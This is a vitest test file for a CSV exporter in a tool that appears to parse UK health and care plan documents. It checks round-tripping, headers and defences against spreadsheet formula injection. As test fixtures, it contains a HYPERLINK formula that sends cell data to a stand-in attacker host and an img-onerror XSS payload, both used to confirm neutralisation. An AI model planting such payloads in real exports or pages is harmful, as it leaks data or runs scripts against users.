import { existsSync, readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { exportCommand } from '../src/export/command.js';
import { csvCell, neutraliseFormula, toCsv, type Column } from '../src/export/csv.js';
import { EXPORT_TABLES } from '../src/export/tables.js';
import { buildFixtureDb, type FixtureDb } from './export-fixtures.js';

/** A strict RFC 4180 reader, independent of csv-stringify, to prove the files round-trip. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') { cell += '"'; i += 2; continue; }
      if (ch === '"') { quoted = false; i++; continue; }
      cell += ch; i++; continue;
    }
    if (ch === '"' && cell === '') { quoted = true; i++; continue; }
    if (ch === ',') { row.push(cell); cell = ''; i++; continue; }
    if (ch === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i += 2; continue; }
    if (ch === '"' || ch === '\n' || ch === '\r') throw new Error(`bare ${JSON.stringify(ch)} outside quotes at ${i}`);
    cell += ch; i++;
  }
  if (cell !== '' || row.length > 0) { row.push(cell); rows.push(row); }
  return rows;
}

interface Table { header: string[]; rows: Record<string, string>[]; raw: Buffer }

function readTable(dir: string, name: string): Table {
  const raw = readFileSync(join(dir, 'exports', `${name}.csv`));
  const text = raw.toString('utf8');
  const [header, ...body] = parseCsv(text.replace(/^\uFEFF/, ''));
  return { header, rows: body.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]]))), raw };
}

describe('formula neutralisation (text cells)', () => {
  it.each([
    ['=HYPERLINK("http://x","y")', `'=HYPERLINK("http://x","y")`],
    ['+44 1623 000000', `'+44 1623 000000`],
    ['-2+3 failure to recruit', `'-2+3 failure to recruit`],
    ['@SUM(1+1)', `'@SUM(1+1)`],
    ['\tindented', `'\tindented`],
    ['\rcarriage', `'\rcarriage`],
  ])('prefixes %j with an apostrophe', (input, expected) => {
    expect(neutraliseFormula(input)).toBe(expected);
    expect(csvCell(input, 'text')).toBe(expected);
  });

  it('leaves ordinary text, and the trigger characters inside text, alone', () => {
    expect(neutraliseFormula('Carers Support')).toBe('Carers Support');
    expect(neutraliseFormula('£1,486,230 = 5% of total')).toBe('£1,486,230 = 5% of total');
    expect(neutraliseFormula('')).toBe('');
  });

  it('keeps numeric columns numeric, negative amounts included', () => {
    expect(csvCell(-129506, 'integer')).toBe('-129506');
    expect(csvCell(97.3, 'number')).toBe('97.3');
    expect(csvCell(null, 'integer')).toBe('');
  });

  it('neutralises tab and carriage-return triggers inside a whole CSV and still round-trips them', () => {
    const cols: Column[] = [{ name: 'n', type: 'integer', description: '' }, { name: 't', type: 'text', description: '' }];
    const csv = toCsv(cols, [{ n: -5, t: '\t=1+1' }, { n: 3, t: '\r\n=2' }]);
    const rows = parseCsv(csv.replace(/^\uFEFF/, ''));
    expect(rows).toEqual([['n', 't'], ['-5', "'\t=1+1"], ['3', "'\r\n=2"]]);
  });
});

describe('plansift export on a database of five plans', () => {
  let fx: FixtureDb;
  beforeAll(async () => {
    fx = await buildFixtureDb();
    vi.spyOn(console, 'log').mockImplementation(() => undefined);
    expect(await exportCommand({ out: fx.dir, format: 'csv' })).toBe(0);
  });
  afterAll(() => vi.restoreAllMocks());

  it('writes one CSV per table, each starting with a UTF-8 byte-order mark and its documented header', () => {
    expect(readdirSync(join(fx.dir, 'exports')).sort()).toEqual(
      ['budgets.csv', 'documents.csv', 'flags.csv', 'metrics.csv', 'notes.csv', 'plans.csv', 'risks.csv', 'schemes.csv', 'sections.csv'],
    );
    for (const table of EXPORT_TABLES) {
      const t = readTable(fx.dir, table.name);
      expect([...t.raw.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      expect(t.header).toEqual(table.columns.map((c) => c.name));
      expect(t.header.slice(0, 2)).toEqual(table.name === 'plans' ? ['plan_id', 'area_name'] : ['document_id', 'area_name']);
    }
  });

  it('plans.csv: one row per area and round, with its code and current file; failed and removed files in none', () => {
    const plans = readTable(fx.dir, 'plans').rows;
    expect(plans.map((p) => [p.area_name, p.hwb_area_code, p.round, p.document_count])).toEqual([
      ['Leicester City Council', 'E06000016', '2015-16', '1'],
      ['Leicester City Council', 'E06000016', '2022-23', '1'],
      ['Nottinghamshire County Council', 'E10000024', '2015-16', '1'],
    ]);
    expect(plans[0].current_document_id).toBe(String(fx.ids.revisedPlan2014));
    expect(plans[0].paths).toBe('2014/leicester-city-bcf.pdf');
  });

  it('lists every plan, failed and removed ones included, with counts', () => {
    const plans = readTable(fx.dir, 'documents').rows;
    expect(plans).toHaveLength(5);
    const byId = new Map(plans.map((p) => [Number(p.document_id), p]));
    expect(byId.get(fx.ids.failed)).toMatchObject({ status: 'failed', failure_reason: 'encrypted', area_name: '2015/encrypted-plan.pdf', flags_error: '1' });
    expect(byId.get(fx.ids.removed)).toMatchObject({ status: 'removed', removed_at: '2026-11-20T02:00:00.000Z' });
    expect(byId.get(fx.ids.originalPlan2014)).toMatchObject({
      local_authorities: 'Nottinghamshire County Council; Mansfield District Council; Bassetlaw District Council',
      sections_present: '14', sections_missing: '1', sections_placeholder: '0', flags_error: '2', flags_warning: '2', risks: '4',
    });
    expect(byId.get(fx.ids.revisedPlan2014)).toMatchObject({ template: 'bcf-2014-revised', pages: '31', sections_placeholder: '1', schemes: '4' });
  });

  it('puts document id and area name on every item row, matching plans.csv', () => {
    const areaById = new Map(readTable(fx.dir, 'documents').rows.map((p) => [p.document_id, p.area_name]));
    for (const name of ['sections', 'schemes', 'budgets', 'risks', 'metrics', 'flags', 'notes']) {
      const rows = readTable(fx.dir, name).rows;
      expect(rows.length).toBeGreaterThan(0);
      for (const r of rows) expect(r.area_name).toBe(areaById.get(r.document_id));
    }
  });

  it('keeps £, commas, quotes and line breaks through a round trip', () => {
    const budgets = readTable(fx.dir, 'budgets').rows;
    expect(budgets.find((b) => b.amount_gbp === '812000')?.source_text).toBe('£812,000');
    const schemes = readTable(fx.dir, 'schemes').rows;
    expect(schemes.find((s) => s.ref === '4' && s.document_id === String(fx.ids.revisedPlan2014))?.name).toBe('Enablers, Workforce and "Digital" Systems');
    expect(schemes.find((s) => s.ref === '3' && s.document_id === String(fx.ids.originalPlan2014))?.theme).toBe('Prevention, "early help"\nand self-care');
    const risks = readTable(fx.dir, 'risks').rows;
    expect(risks.map((r) => r.mitigation)).toContain('Target the schemes most likely to deliver savings, "as well as" better outcomes');
  });

  it('neutralises formulas in the files but leaves the negative amount a number', () => {
    const schemes = readTable(fx.dir, 'schemes').rows;
    expect(schemes.map((s) => s.name)).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
    const risks = readTable(fx.dir, 'risks').rows;
    expect(risks.map((r) => r.mitigation)).toEqual(expect.arrayContaining(["'@SUM(1+1) weekly review", "'+44 1623 000000 escalation line"]));
    expect(risks.map((r) => r.description)).toContain("'-2+3 failure to recruit domiciliary care staff in rural areas");
    const adjustment = readTable(fx.dir, 'budgets').rows.find((b) => b.label === 'Adjustment, carried forward');
    expect(adjustment).toMatchObject({ amount_gbp: '-129506', source_text: "'-£129,506", year: '2015-16' });
  });

  it('exports metrics with numerator and denominator, and flags with page and quoted text', () => {
    const metrics = readTable(fx.dir, 'metrics').rows;
    expect(metrics.find((m) => m.metric === 'reablement' && m.period === '2022-23')).toMatchObject({ kind: 'plan', value: '81.7', numerator: '688', denominator: '842', unit: 'percent' });
    const flags = readTable(fx.dir, 'flags').rows;
    expect(flags.find((f) => f.code === 'RISK_SCORE_MISMATCH')).toMatchObject({ page: '8', section: 'risks.risk_log', severity: 'warning' });
    expect(flags.find((f) => f.code === 'UNSIGNED')?.source_text).toBe('<name of signatory> <job title> <date>');
  });

  it('exports notes with stage, page and quoted text, neutralised like every text cell', () => {
    const notes = readTable(fx.dir, 'notes').rows;
    expect(notes.map((n) => [n.document_id, n.ord, n.level, n.stage, n.page])).toEqual([
      [String(fx.ids.revisedPlan2014), '0', 'info', 'extract', ''],
      [String(fx.ids.revisedPlan2014), '1', 'info', 'extract', '8'],
      [String(fx.ids.removed), '0', 'info', 'extract', ''], // the removed draft is a copy of the revised 2014 record
      [String(fx.ids.removed), '1', 'info', 'extract', '8'],
      [String(fx.ids.originalPlan2014), '0', 'info', 'budgets', ''],
    ]);
    expect(notes[1].message).toBe('table continued from page 7 to page 8 (repeated header row dropped)');
    expect(notes[4]).toMatchObject({ message: '"-£300k - £450k" is a range, not read as an amount', source_text: `'-£300k - £450k <img src=x onerror="window.__xss=3">` });
  });
});

describe('docs/exports.md', () => {
  const doc = readFileSync(new URL('../docs/exports.md', import.meta.url), 'utf8');
  it.each(EXPORT_TABLES.map((t) => [t.name, t] as const))('documents every column of %s.csv', (name, table) => {
    const start = doc.indexOf(`## ${name}.csv`);
    expect(start).toBeGreaterThan(-1);
    const end = doc.indexOf('\n## ', start + 1);
    const section = doc.slice(start, end === -1 ? undefined : end);
    for (const c of table.columns) expect(section).toContain(`| \`${c.name}\` |`);
  });
});

describe('plansift export cannot proceed', () => {
  it('returns 2 with a message when there is no database', async () => {
    const err = vi.spyOn(console, 'error').mockImplementation(() => undefined);
    const dir = join('/tmp', `plansift-none-${process.pid}`);
    expect(await exportCommand({ out: dir })).toBe(2);
    expect(err.mock.calls.flat().join(' ')).toMatch(/no database at .*plansift\.sqlite/);
    expect(existsSync(join(dir, 'exports'))).toBe(false);
    err.mockRestore();
  });

  it('returns 2 for a format it cannot write', async () => {
    const err = vi.spyOn(console, 'error').mockImplementation(() => undefined);
    expect(await exportCommand({ out: '/tmp', format: 'xlsx' })).toBe(2);
    expect(err.mock.calls.flat().join(' ')).toMatch(/unknown --format xlsx/);
    err.mockRestore();
  });
});
